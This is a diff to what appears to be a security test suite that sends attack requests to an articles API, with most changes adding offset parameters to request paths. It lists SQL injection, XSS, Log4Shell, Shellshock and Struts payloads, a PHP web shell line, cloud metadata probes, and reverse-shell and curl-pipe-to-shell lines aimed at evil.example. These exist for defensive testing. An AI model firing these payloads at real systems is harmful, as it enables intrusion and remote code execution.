@@ -14,7 +14,7 @@ const sql = ofKind('SQL injection', {
   'an error that tells': askForTag("x' and extractvalue(1,concat(0x7e,version()))#"),
   'in the path': ask("/api/profiles/x'%20or%20'1'='1"),
   'in a login': logIn("' or 1=1 -- "),
-  'in a cookie': ask('/api/articles', { headers: { Cookie: "causality=x' or '1'='1" } }),
+  'in a cookie': ask('/api/articles?offset=1', { headers: { Cookie: "causality=x' or '1'='1" } }),
 });
 
 const script = ofKind('script', {
@@ -27,8 +27,10 @@ const script = ofKind('script', {
   'a handler that breaks out': askForTag('" onmouseover="alert(1)" x="'),
   'encoded twice': ask('/api/articles?tag=%253Cscript%253Ealert(1)%253C%252Fscript%253E'),
   'in the path': ask('/api/profiles/%3Cscript%3Ealert(1)%3C%2Fscript%3E'),
-  'in the client’s name': ask('/api/articles', { headers: { 'User-Agent': '<script>alert(1)</script>' } }),
-  'in the page that led here': ask('/api/tags', { headers: { Referer: 'http://x/<script>alert(1)</script>' } }),
+  'in the client’s name': ask('/api/articles?offset=2', { headers: { 'User-Agent': '<script>alert(1)</script>' } }),
+  'in the page that led here': ask('/api/articles?offset=3', {
+    headers: { Referer: 'http://x/<script>alert(1)</script>' },
+  }),
   'in a login': logIn('<script>alert(1)</script>@x.example'),
 });
 
@@ -53,7 +55,7 @@ const command = ofKind('command', {
   'a pipe': askForTag('x | nc evil.example 4444 -e /bin/sh'),
   'in backquotes': askForTag('`wget http://evil.example/x`'),
   'in a substitution': askForTag('$(curl http://evil.example/x|sh)'),
-  Shellshock: ask('/api/articles', { headers: { 'User-Agent': '() { :;}; /bin/bash -c "id"' } }),
+  Shellshock: ask('/api/articles?offset=4', { headers: { 'User-Agent': '() { :;}; /bin/bash -c "id"' } }),
   PowerShell: askForTag('powershell -enc SQBFAFgA'),
   PHP: askForTag('<?php system($_GET[0]); ?>'),
   'PHP by its stream': askForTag('php://filter/convert.base64-encode/resource=index.php'),
@@ -64,10 +66,12 @@ const command = ofKind('command', {
 
 const others = ofKind('other languages and places', {
   'Log4Shell in a query': askForTag('\u0024{jndi:ldap://evil.example/x}'),
-  'Log4Shell in a header': ask('/api/articles', { headers: { 'User-Agent': '\u0024{jndi:ldap://evil.example/x}' } }),
+  'Log4Shell in a header': ask('/api/articles?offset=5', {
+    headers: { 'User-Agent': '\u0024{jndi:ldap://evil.example/x}' },
+  }),
   'a class of Java': askForTag('java.lang.Runtime.getRuntime().exec("id")'),
   'a serialized object of Java': askForTag('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
-  Struts: ask('/api/articles', { headers: { 'Content-Type': '%{(#_=multipart/form-data).(#cmd=id)}' } }),
+  Struts: ask('/api/articles?offset=6', { headers: { 'Content-Type': '%{(#_=multipart/form-data).(#cmd=id)}' } }),
   'a prototype in a query': ask('/api/articles?__proto__[admin]=1'),
   'the cloud’s own address': askForTag('http://169.254.169.254/latest/meta-data/'),
   'a list of the directory': askForTag('*)(uid=*))(|(uid=*'),
@@ -80,12 +84,12 @@ const others = ofKind('other languages and places', {
 });
 
 const scanners = ofKind('scanner', {
-  sqlmap: ask('/api/articles', { headers: { 'User-Agent': 'sqlmap/1.7#stable (https://sqlmap.org)' } }),
+  sqlmap: ask('/api/articles?offset=7', { headers: { 'User-Agent': 'sqlmap/1.7#stable (https://sqlmap.org)' } }),
   nikto: ask('/', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }),
-  'nikto on the API': ask('/api/tags', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }),
-  nmap: ask('/api/tags', { headers: { 'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' } }),
-  masscan: ask('/api/tags', { headers: { 'User-Agent': 'masscan/1.3' } }),
-  nuclei: ask('/api/tags', { headers: { 'User-Agent': 'Nuclei - Open-source project' } }),
+  'nikto on the API': ask('/api/articles?offset=8', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }),
+  nmap: ask('/api/articles?offset=9', { headers: { 'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' } }),
+  masscan: ask('/api/articles?offset=10', { headers: { 'User-Agent': 'masscan/1.3' } }),
+  nuclei: ask('/api/articles?offset=11', { headers: { 'User-Agent': 'Nuclei - Open-source project' } }),
   'the login of WordPress': ask('/wp-login.php'),
   'the front end of MySQL': ask('/phpmyadmin/index.php'),
   'a copy of the database': ask('/backup.sql'),
